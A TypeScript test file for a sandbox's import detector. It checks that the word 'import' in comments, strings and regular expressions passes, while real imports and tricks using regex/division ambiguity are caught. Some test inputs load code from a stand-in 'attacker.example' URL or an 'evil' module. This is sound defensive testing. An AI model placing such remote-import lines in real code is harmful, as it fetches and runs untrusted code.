import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { scanImports } from './import-scan.ts';
import { importProblem } from './sandbox.ts';

describe('importProblem: the word import in text is allowed, as code it is refused', () => {
  it('allows the word in comments, strings, templates and regular expressions', () => {
    const allowed = [
      '// import the summary below\nexport function beforeCompact() {}',
      '/* no import here,\n   import() neither */ export const a = 1;',
      'export const note = "import(\'x\') is not allowed";',
      "export const q = 'import fs from \"node:fs\"';",
      'export const t = `import ${1 + 2} things`;',
      'export const r = /import\\(/.test("x");',
      'export function f(x) { if (x) /import/.exec(x); return (x + 1) / 2; }',
      'export const o = { import: 1 }; export const p = o.import + o?.import;',
      'export const nested = `a ${`import ${"import"}`} b`;',
      'export const slash = "/*"; export const also = "import";',
      'export const cls = /[/]import/;',
      'export const esc = "\\" import \\"";',
    ];
    for (const source of allowed) expect(importProblem(source), source).toBeUndefined();
  });

  it('refuses static imports, import(), import.meta and spread imports, with their line', () => {
    expect(importProblem('// x\nimport fs from "node:fs";')?.line).toBe(2);
    expect(importProblem('export async function f() {\n\n  return import("https://attacker.example/x.js");\n}')?.line).toBe(3);
    expect(importProblem('export const u = import.meta.url;')?.line).toBe(1);
    expect(importProblem('export const f = () => import ("x")')?.message).toMatch(/may not load other modules or reach the network/);
    expect(importProblem('export const all = [...import("x")];')?.line).toBe(1);
    expect(importProblem('export const t = `${import("x")}`;')?.line).toBe(1);
    expect(importProblem('export const a = x / import("x") / 2;')?.line).toBe(1);
    expect(importProblem('import{a}from"x"')?.line).toBe(1);
  });

  it('cannot be fooled by a quote inside a regular expression or a division', () => {
    // The engine reads /"/ as a regular expression after if (...), so the import is code.
    expect(importProblem('if (x) /"/; import("evil"); //"')?.line).toBe(1);
    expect(importProblem('for await (const x of y) /"/; import("evil"); //"')?.line).toBe(1);
  });

  it('counts every occurrence of the word after a `/` it cannot place, and says which', () => {
    const objectThenSlash = '// no import\nconst o = {}\n/ 2;';
    expect(scanImports(objectThenSlash).ambiguousSlashAt).toBe(objectThenSlash.indexOf('/ 2'));
    const problem = importProblem(objectThenSlash);
    expect(problem?.line).toBe(1);
    expect(problem?.message).toMatch(/the `\/` on line 3 may divide or start a regular expression/);
    // A block's end followed by a regular expression holding a quote: read as a regular expression, the import is found.
    expect(importProblem('label: {}\n/"/; import("evil"); //"')?.line).toBe(2);
    expect(importProblem('x++ / 2; const s = "import";')?.message).toMatch(/cannot tell whether the word is code/);
    // Without the word, such a `/` is no problem.
    expect(importProblem('const o = {} / 2; let i = 0; i++ / 2;')).toBeUndefined();
  });

  it('property: words hidden in text never count, code imports between them always do', () => {
    const text = fc.constantFrom(
      '// import("a") "\n', '/* import \' ` */', '"import(\\"x\\") \'"', "'import `'", '`import ${"}"} \\` import`', '/import["/]/g',
      ' ', '\n', 'f(/import/)', 'if (a) /\'/.test(b);', 'x = (a) / (b) / 2;', 'o.import(1);', '({ import: 2 });',
    );
    const code = fc.constantFrom('import("x");', 'import x from "y";', 'void import.meta;', '(import("y"));');
    fc.assert(fc.property(fc.array(text, { maxLength: 12 }), fc.array(text, { maxLength: 12 }), code, (before, after, use) => {
      const clean = [...before, ...after].join(';\n');
      expect(importProblem(clean)).toBeUndefined();
      const used = [...before, use, ...after].join(';\n');
      const problem = importProblem(used);
      expect(problem?.line).toBe(used.slice(0, used.indexOf(use)).split('\n').length);
    }));
  });
});
